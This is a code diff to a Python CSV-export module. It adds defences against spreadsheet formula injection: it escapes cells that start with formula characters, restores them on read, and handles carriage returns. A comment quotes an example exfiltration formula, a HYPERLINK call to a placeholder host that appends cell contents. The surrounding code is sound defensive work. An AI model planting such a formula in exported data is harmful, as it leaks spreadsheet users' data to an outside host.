@@ -9,6 +9,7 @@ from __future__ import annotations
 import io
 import json
 import os
+import re
 import shutil
 import tempfile
 import time
@@ -204,9 +205,67 @@ def read_parts(table: Table, parts: list[Path], columns: list[str], cache: Path,
     return rows, np.repeat(np.arange(len(pieces)), [t.num_rows for t in pieces])
 
 
+# A spreadsheet opening a CSV runs a cell that starts with = + - @ as a formula (tab and CR too: Excel drops them
+# and reads on), so a corpus string such as a title =HYPERLINK("http://x/?"&A1) would leak or run. OWASP's
+# remedy: a leading ' makes the cell text. Cells that already start with quotes before such a character get one
+# more, so that `restore` gives back exactly what was written.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_FORMULA = re.compile(r"'*[=+\-@\t\r]")
+
+
+def neutralise(value: str) -> str:
+    """A text cell no spreadsheet will run as a formula."""
+    return "'" + value if _FORMULA.match(value) else value
+
+
+def restore(value: str) -> str:
+    """The text `neutralise` was given."""
+    return value[1:] if value.startswith("'") and _FORMULA.match(value, 1) else value
+
+
+def _neutralised_column(s: pd.Series) -> pd.Series:
+    if pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s):
+        return s  # numbers stay numbers (a negative count is not a formula)
+    try:
+        hit = s.str.match(_FORMULA.pattern, na=False).to_numpy(dtype=bool)
+    except (AttributeError, TypeError):  # no strings in the column
+        return s
+    if not hit.any():
+        return s
+    s = s.astype(object)
+    s[hit] = ["'" + v for v in s[hit]]
+    return s
+
+
 def csv_bytes(df: pd.DataFrame) -> bytes:
+    cells = df.copy(deep=False)
+    cells.columns = [neutralise(c) if isinstance(c, str) else c for c in df.columns]
+    for i in range(cells.shape[1]):
+        column = cells.iloc[:, i]
+        safe = _neutralised_column(column)
+        if safe is not column:
+            cells.isetitem(i, safe)
+    text = cells.to_csv(index=False, lineterminator="\n")
+    if "\r" in text:
+        # the csv module quotes a field holding a CR only when CR is part of the line terminator, and an unquoted
+        # CR ends the row in every reader: write with CRLF, then end rows with LF again outside quoted fields
+        # (an unquoted field never holds a quote character, so quotes alternate in and out of fields)
+        parts = cells.to_csv(index=False, lineterminator="\r\n").split('"')
+        parts[::2] = [p.replace("\r\n", "\n") for p in parts[::2]]
+        text = '"'.join(parts)
     # UTF-8 with BOM so Excel in a Chinese locale opens the file as UTF-8
-    return df.to_csv(index=False, lineterminator="\n").encode("utf-8-sig")
+    return text.encode("utf-8-sig")
+
+
+def read_csv(path: Path, **options) -> pd.DataFrame:
+    """A CSV this project wrote, with its cells as they were before `neutralise` (empty cells are '');
+    `options` go to pandas.read_csv."""
+    df = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, **options)
+    df.columns = [restore(c) if isinstance(c, str) else c for c in df.columns]
+    for c in df.columns:
+        if not (pd.api.types.is_numeric_dtype(df[c]) or pd.api.types.is_bool_dtype(df[c])):
+            df[c] = [restore(v) if isinstance(v, str) else v for v in df[c].tolist()]
+    return df
 
 
 def write_csv(df: pd.DataFrame, path: Path) -> Path:
